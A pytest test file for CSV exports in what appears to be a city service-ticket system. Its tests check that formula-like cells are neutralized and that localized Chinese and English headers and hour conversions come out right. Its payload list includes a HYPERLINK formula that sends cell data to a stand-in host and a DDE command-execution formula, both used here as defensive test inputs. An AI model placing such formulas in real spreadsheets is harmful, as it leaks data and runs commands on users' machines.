"""CSV exports: text a spreadsheet would run as a formula is written inert (OWASP's CSV injection rule);
numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from shared.exports import csv_cell, write_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["SC01-ST01", "路灯", "a=b", "", " =1", 0, -0.5, 3, None, True])
def test_plain_text_numbers_and_empty_cells_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_an_export_neutralises_every_cell_and_its_header_and_reads_back_as_text():
    text = write_csv(["reporter", "opened", "closure_rate"],
                     [{"reporter": "=HYPERLINK(\"http://x\")", "opened": 3, "closure_rate": -0.25, "extra": "="},
                      {"reporter": "@wang", "opened": 1}])
    assert text.endswith("\r\n") and text.count("\r\n") == 3
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["reporter", "opened", "closure_rate"], ["'=HYPERLINK(\"http://x\")", "3", "-0.25"],
                    ["'@wang", "1", ""]]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


# -- for Excel: a byte-order mark, names in the reader's language, hours --------------------------------------

def test_an_export_is_utf8_behind_a_byte_order_mark_and_reads_back_with_utf8_sig():
    from shared.exports import export_csv

    data = export_csv(["area_id", "area_name"], [{"area_id": "SC01-ST01", "area_name": "第1分中心第1工作站"}],
                      header=["工作站编号", "工作站名称"])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")))) == [
        {"工作站编号": "SC01-ST01", "工作站名称": "第1分中心第1工作站"}]
    with pytest.raises(ValueError):
        export_csv(["a", "b"], [], header=["only one"])


@pytest.mark.parametrize(("seconds", "expected"), [(5400, 1.5), (0, 0.0), (1, 0.000278), (None, None),
                                                   (86400 * 3 + 36, 72.01)])
def test_a_duration_is_written_in_hours_as_a_decimal(seconds, expected):
    from shared.exports import hours

    assert hours(seconds) == expected


def closure_answer(group_by: str, rows: list[dict]) -> dict:
    return {"group_by": group_by, "period": "month", "from": "2026-11-01", "to": "2026-12-01",
            "time_zone": "Asia/Shanghai", "rows": rows}


def test_a_closure_times_csv_names_units_beside_ids_in_the_reader_s_language_with_the_json_s_numbers():
    from services.escalation.domain import statistics
    from services.escalation.exports import closure_times_table

    counts = dict.fromkeys(statistics.COUNTS, 0) | {"opened": 4, "closed": 2, "on_time": 1}
    row = statistics.row({"area_id": "SC01-ST01", "period_start": "2026-11-01"}, counts,
                         {"close_s": (5400.0, 90000.0), "level2_s": (1800.0, None)})
    answer = closure_answer("station", [row])
    names = {"SC01-ST01": "第1分中心第1工作站"}
    for lang, unit, name, opened, close_p90, period in (
            ("zh", "工作站编号", "工作站名称", "立案数", "结案用时90%分位（小时）", "周期开始日期（Asia/Shanghai）"),
            ("en", "station id", "station name", "opened", "time to close, 90th percentile (hours)",
             "period start (Asia/Shanghai)")):
        columns, header, rows = closure_times_table(answer, lang, area_names=names, department_names=lambda _: None,
                                                    category_names=lambda _: None)
        assert header[:3] == [unit, name, period] and columns[:3] == ["area_id", "area_name", "period_start"]
        [record] = csv.DictReader(io.StringIO(write_csv(columns, rows, header)))
        assert record[unit] == "SC01-ST01" and record[name] == "第1分中心第1工作站"
        assert record[opened] == "4" and record[period] == "2026-11-01"
        assert float(record[close_p90]) * 3600 == row["time_to_close"]["p90"]  # the JSON's seconds, in hours
        assert float(record[header[columns.index("closure_rate")]]) == row["closure_rate"] == 0.5
        assert record[header[columns.index("time_at_level_2_p90")]] == ""  # no value: an empty cell
        assert len(set(header)) == len(header)


def test_a_department_csv_names_the_department_and_a_category_csv_the_category():
    from services.escalation.domain import statistics
    from services.escalation.exports import closure_times_table

    department = dict.fromkeys(statistics.DEPARTMENT_COLUMNS) | {
        "department": "water", "period_start": "2026-11-01", "assigned": 3, "time_to_accept": {"median": 7200.0,
                                                                                             "p90": 9000.0}}
    department.pop("time_to_accept_median"), department.pop("time_to_accept_p90")
    columns, header, rows = closure_times_table(
        closure_answer("department", [department]), "zh", area_names={},
        department_names={"water": "水务局"}.get, category_names=lambda _: None)
    assert columns[:2] == ["department", "department_name"] and header[:2] == ["部门编号", "部门"]
    assert rows[0]["department_name"] == "水务局" and rows[0]["time_to_accept_median"] == 2.0
    counts = dict.fromkeys(statistics.COUNTS, 0)
    row = statistics.row({"category": "street_light", "period_start": "2026-11-01"}, counts, {})
    columns, header, rows = closure_times_table(
        closure_answer("category", [row]), "en", area_names={}, department_names=lambda _: None,
        category_names={"street_light": "Street light"}.get)
    assert header[:2] == ["category code", "category"] and rows[0]["category_name"] == "Street light"
